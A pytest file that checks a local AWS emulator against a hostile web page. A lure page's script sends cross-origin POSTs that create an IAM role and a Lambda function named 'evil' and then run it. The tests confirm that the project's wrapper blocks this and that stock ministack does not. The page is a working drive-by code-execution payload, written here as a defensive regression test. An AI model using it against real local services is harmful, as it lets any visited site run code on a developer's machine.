"""A page of another site in a real browser, against the local cloud and against ministack as it is."""

import base64
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import boto3
import pytest
import requests

from infra.local.cloud import LocalCloud
from infra.local.processes import HOST, free_port
from tests.waiting import eventually

pytestmark = pytest.mark.slow

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
TRUST = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}],
}

PAGE = """<!doctype html><title>Win a bicycle</title><script>
const target = %(target)s
const algorithm = "X-Amz-Algorithm=AWS4-HMAC-SHA256"
const key = service => `${algorithm}&X-Amz-Credential=test/20260101/us-east-1/${service}/aws4_request`
const send = (path, body) => fetch(target + path, {method: "POST", mode: "no-cors", body}).catch(() => null)
async function attack() {
  await send("/?Action=CreateRole&Version=2010-05-08&RoleName=r&" + key("iam") +
    "&AssumeRolePolicyDocument=" + encodeURIComponent(%(trust)s), "")
  await send("/2015-03-31/functions?" + key("lambda"), %(function)s)
  await send("/2015-03-31/functions/evil/invocations?" + key("lambda"), "{}")
  return "done"
}
</script>"""


def page(target: str, trace: Path) -> str:
    """What makes a function that leaves a file behind, and invokes it."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("evil.py", f"def handler(event, context):\n    open({str(trace)!r}, 'w').close()\n")
    function = {
        "FunctionName": "evil",
        "Runtime": "python3.13",
        "Handler": "evil.handler",
        "Role": "arn:aws:iam::000000000000:role/r",
        "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
    }
    return PAGE % {
        "target": json.dumps(target),
        "trust": json.dumps(json.dumps(TRUST)),
        "function": json.dumps(json.dumps(function)),
    }


class Site:
    """Another site on this machine, which shows whatever page it is given."""

    def __init__(self) -> None:
        self.page = ""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(site.page.encode())

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer((HOST, 0), Handler)
        Thread(target=self.server.serve_forever, daemon=True).start()
        self.address = f"http://{HOST}:{self.server.server_port}/"


@pytest.fixture
def site() -> Iterator[Site]:
    if not CHROMIUM:
        pytest.skip("there is no Chromium: install it, on Debian with `apt install chromium`")
    site = Site()
    yield site
    site.server.shutdown()
    site.server.server_close()


def visit(site: Site) -> None:
    from playwright.sync_api import sync_playwright  # noqa: PLC0415 - it takes long, and is for this test alone

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        opened = browser.new_page()
        opened.goto(site.address)
        assert opened.evaluate("attack()") == "done"
        browser.close()


def functions(address: str, key: str, secret: str) -> list[str]:
    client: Any = boto3.client(
        "lambda",
        endpoint_url=address,
        region_name="us-east-1",
        aws_access_key_id=key,
        aws_secret_access_key=secret,
    )
    return [function["FunctionName"] for function in client.list_functions()["Functions"]]


def test_three_posts_of_a_page_make_no_function_and_run_none(site: Site, tmp_path: Path) -> None:
    real = {
        "SPOTIPY_CLIENT_ID": "id",
        "SPOTIPY_CLIENT_SECRET": "secret",
        "LISTENBRAINZ_CONTACT": "nobody@label.example",
    }
    cloud = LocalCloud(tmp_path / "state", {**os.environ, **real})
    endpoints = cloud.start()
    try:
        site.page = page(endpoints.aws, tmp_path / "trace")

        visit(site)

        assert functions(endpoints.aws, endpoints.access_key_id, endpoints.secret_access_key) == []
        assert not (tmp_path / "trace").exists()
    finally:
        cloud.stop()


def test_gap_the_same_page_runs_its_code_on_ministack_as_it_is(site: Site, tmp_path: Path) -> None:
    port = free_port()
    variables = {
        "PATH": os.environ["PATH"],
        "TMPDIR": str(tmp_path),
        "GATEWAY_PORT": str(port),
        "BIND_HOST": HOST,
        "AUTH": "true",
        "IOT_MTLS_ENABLED": "0",
        "SFTP_ENABLED": "0",
    }
    address = f"http://{HOST}:{port}"
    with subprocess.Popen([sys.executable, "-m", "ministack"], env=variables, stderr=subprocess.DEVNULL) as bare:
        try:
            eventually(lambda: answers(f"{address}/_ministack/health"))
            site.page = page(address, tmp_path / "trace")

            visit(site)

            assert functions(address, "test", "test") == ["evil"]
            assert (tmp_path / "trace").exists()
        finally:
            bare.terminate()


def answers(address: str) -> bool:
    with suppress(requests.ConnectionError):
        requests.get(address, timeout=60)
        return True
    return False
